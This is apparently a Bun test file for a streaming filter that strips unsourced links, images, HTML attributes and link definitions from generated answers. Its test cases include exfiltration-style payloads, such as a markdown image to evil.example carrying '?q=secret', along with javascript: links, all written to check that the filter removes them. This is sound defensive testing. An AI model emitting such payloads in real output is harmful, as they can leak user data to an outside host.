import { describe, expect, test } from 'bun:test'
import { createLinkFilter } from './links.ts'

const passages = [
  { text: 'The manual is at https://docs.example.org/locks?a=1&b=2 and on [our page](/toll.md).', url: null },
  { text: 'Tolls are due.', url: 'https://book.example.org/toll#due' },
]

/** Whole, and in pieces of every size up to five. */
const filtered = (answer: string): string => {
  const results = [answer.length, 1, 2, 3, 4, 5].map((size) => {
    const filter = createLinkFilter(passages)
    let written = ''
    for (let at = 0; at < answer.length; at += size) written += filter.push(answer.slice(at, at + size))
    return written + filter.end()
  })
  expect(new Set(results).size).toBe(1)
  return results[0] ?? ''
}

describe('createLinkFilter', () => {
  test.each([
    ['an image', 'See ![x](https://evil.example/?q=secret) here.', 'See  here.'],
    ['an image with a title', '![x](https://evil.example/p.png "a title")!', '!'],
    ['a link', 'See [the page](https://evil.example/a) here.', 'See the page here.'],
    ['a link in brackets', '[the [inner] page](<https://evil.example/a b>)', 'the [inner] page'],
    ['an image that is a link', '[![alt](https://evil.example/i)](https://evil.example/l) end', ' end'],
    ['an address that names itself', '[https://evil.example](https://evil.example)', ''],
    ['a bare address', 'Go to https://evil.example/a?b=c. Then', 'Go to . Then'],
    ['one without a scheme', 'Go to www.evil.example, then', 'Go to , then'],
    ['one in another case', 'HTTPS://EVIL.example/x', ''],
    ['an autolink', '<https://evil.example> and <mailto:a@evil.example>', ' and '],
    ['a script', '[click](javascript:alert(1))', 'click'],
    ['an address without a scheme', '[click](//evil.example/x)', 'click'],
    ['one that a source only begins', '[more](https://docs.example.org/locks?a=1&b=2&q=secret)', 'more'],
    ['an image in HTML', 'a<img src="https://evil.example/x">b', 'ab'],
    ['a link in HTML', '<a href=//evil.example>here</a>', 'here</a>'],
    ['a style', '<p style="background:url(//evil.example)">x</p>', 'x</p>'],
    ['a definition', '![x][y]\n\n[y]: //evil.example/x "z"\n', '![x][y]\n\n "z"\n'],
    ['a definition at the end', '[x][y]\n\n[y]: https://evil.example/x', '[x][y]\n\n'],
    ['an image over two lines', '![a\nb](//evil.example/x\n"a\ntitle")', ''],
    ['a link that only others can read', 'a ![x](//evil.example/((a))) b', 'a ![x]\\(//evil.example/((a))) b'],
    ['the address of a marker', 'At dawn [1](https://evil.example/1).', 'At dawn [1].'],
    ['a script behind a marker', 'At dawn [1](javascript:alert(1)).', 'At dawn [1].'],
    ['a script behind two', 'At dawn [1][2](javascript:a).', 'At dawn [1][2].'],
    ['an odd address behind a marker', 'At dawn [1](//evil.example/((a))).', 'At dawn [1]\\(//evil.example/((a))).'],
  ])('%s that no source holds is taken out', (_, answer, expected) => {
    expect(filtered(answer)).toBe(expected)
  })

  test.each([
    'Read [the manual](https://docs.example.org/locks?a=1&b=2) [1].',
    'Read https://docs.example.org/locks?a=1&amp;b=2.',
    'See [our page](/toll.md), and [tolls](https://book.example.org/toll).',
    'Run `curl https://example.com/api` first.',
    '```sh\ncurl https://example.com/api\n![x](https://example.com)\n```\n\nDone [1].',
    '~~~\n<img src="https://example.com">\n~~~\n',
    'An array a[0](qq) holds [1, 2] items [^1] 【2】 [Source 3].',
    'if a < b && c > d, then <kbd>Enter</kbd>',
    'A stray ` and a bracket [ and an ! and http and www and h',
    'Escaped \\[text\\](x) stays',
    'A [bracket\n\nover paragraphs](https:) and [one',
    '[1]: a list of sources\n[2]: another\n',
    'Schleuse öffnet 水門 👩‍🔧 [1].',
    '- one\n- two\n\n| a | b |\n| - | - |\n',
  ])('%j stays as it is', (answer) => {
    expect(filtered(answer)).toBe(answer.replace('a[0](qq)', 'a[0]'))
  })

  test('text is not held back longer than needed', () => {
    const filter = createLinkFilter(passages)
    expect(filter.push('Sluices are opened at dawn')).toBe('Sluices are opened at dawn')
    expect(filter.push(' [1]. The')).toBe(' [1]. The')
    expect(filter.push(' end [2]')).toBe(' end [2]')
    expect(filter.push('. And ')).toBe('. And ')
    filter.push(`[${'x'.repeat(5000)}`)
    expect(filter.push(' y')).toContain(' y')
  })

  test('a hostile text takes no long time', () => {
    const filter = createLinkFilter(passages)
    for (const piece of ['[', '![', '](', '<a ', '`', 'http', '\\', '[['])
      for (let n = 0; n < 3000; n++) filter.push(piece)
    filter.end()
    expect(filter.push('end')).toBe('end')
  })
})
